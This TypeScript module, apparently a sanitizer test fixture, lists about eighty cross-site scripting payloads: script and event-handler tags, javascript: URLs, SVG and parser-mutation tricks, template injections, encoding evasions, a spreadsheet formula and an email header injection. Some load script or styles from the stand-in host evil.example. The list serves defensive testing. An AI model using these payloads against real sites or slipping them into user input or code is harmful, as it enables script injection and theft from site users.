/** What sets off the alarm of a page in which one of the words has become code: a property that nobody else sets. */
export const alarm = 'xssAlarm'
const set = `window.${alarm}=1`
const u = (code: number) => String.fromCodePoint(code)

/**
 * Words that are code in some place: markup, attributes, addresses, templates, styles, and what becomes one of these when it is
 * decoded, joined, cut or read twice. All fit into 200 characters, the shortest field for names.
 */
export const hostileWords: readonly string[] = [
  // elements
  `<script>${set}</script>`,
  `<ScRiPt>${set}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${set}</scr</script>ipt>`,
  `<img src=x onerror=${set}>`,
  `<img/src/onerror=${set}>`,
  `<IMG """><SCRIPT>${set}</SCRIPT>">`,
  `<body onload=${set}>`,
  `<video><source onerror="${set}">`,
  `<audio src=x onerror=${set}>`,
  `<details open ontoggle=${set}>x</details>`,
  `<input autofocus onfocus=${set}>`,
  `<select autofocus onfocus=${set}>`,
  `<marquee onstart=${set}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${alarm}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${alarm}=1"></iframe>`,
  `<object data="javascript:${set}"></object>`,
  `<embed src="javascript:${set}">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${set}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=javascript:${set}><button autofocus>x</button></form>`,
  `<button formaction=javascript:${set}>x</button>`,
  `<a href=javascript:${set}>x</a>`,
  `<x onclick=${set} tabindex=0>x</x>`,
  `<div id=root>x</div>`,
  // out of an attribute, a text field, a comment, a script
  `"><img src=x onerror=${set}>`,
  `'><svg onload=${set}>`,
  `" onmouseover="${set}" autofocus onfocus="${set}" x="`,
  `' onfocus='${set}' autofocus='`,
  `</title><script>${set}</script>`,
  `</textarea><script>${set}</script>`,
  `</script><script>${set}</script>`,
  `</style><script>${set}</script>`,
  `--><script>${set}</script><!--`,
  `]]><script>${set}</script>`,
  `';${set}//`,
  `"};${set};//`,
  `\\u003cscript\\u003e${set}\\u003c/script\\u003e`,
  // SVG and MathML
  `<svg onload=${set}>`,
  `<svg><script>${set}</script></svg>`,
  `<svg><animate onbegin=${set} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${set}>`,
  `<svg><a xlink:href="javascript:${set}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${set}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${set}>#x">`,
  `<math><mtext><img src=x onerror=${set}></mtext></math>`,
  `<math href="javascript:${set}">x</math>`,
  // what a parser makes of it when it is read twice
  `<svg></p><style><a id="</style><img src=x onerror=${set}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${set}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${set}>`,
  `<template><img src=x onerror=${set}></template>`,
  // addresses
  `javascript:${set}`,
  ` java\tscript:${set}`,
  `JaVaScRiPt:${set}//%0a`,
  `data:text/html,<script>${set}</script>`,
  `vbscript:msgbox(1)`,
  `//evil.example/%2e%2e/`,
  // templates
  `{{constructor.constructor('${set}')()}}`,
  `\${${set}}`,
  `#{${set}} <%= ${set} %> {%raw%}`,
  `{{name}} $t(legal.terms) {count, plural, other {#}}`,
  `[[\${T(java.lang.Runtime)}]] *{x} @{/x}`,
  // Markdown, BBCode, CSS
  `[x](javascript:${set}) ![x](x"onerror="${set})`,
  `<javascript:${set}> <https://evil.example>`,
  `[img]javascript:${set}[/img]`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `x;}*{display:none}/*`,
  `expression(${set})`,
  // writing: fullwidth signs, entities, long UTF-8 read wrongly, directions, joined signs
  `＜script＞${set}＜/script＞`,
  `&lt;script&gt;${set}&lt;/script&gt;`,
  `&#60;img src=x onerror=${set}&#62;`,
  `%3Cscript%3E${set}%3C/script%3E`,
  `+ADw-script+AD4-${set}+ADw-/script+AD4-`,
  `ſcript ﹤img src=x onerror=${set}﹥`,
  `<img${u(0x0c)}src=x${u(0x0c)}onerror=${set}>`,
  `e${u(0x301)}<script>${u(0x200d)}${set}</script>`,
  // formulas and other lines
  `=HYPERLINK("https://evil.example","x")`,
  `x\r\nBcc: victim@example.com\r\n\r\n<b>x</b>`,
]
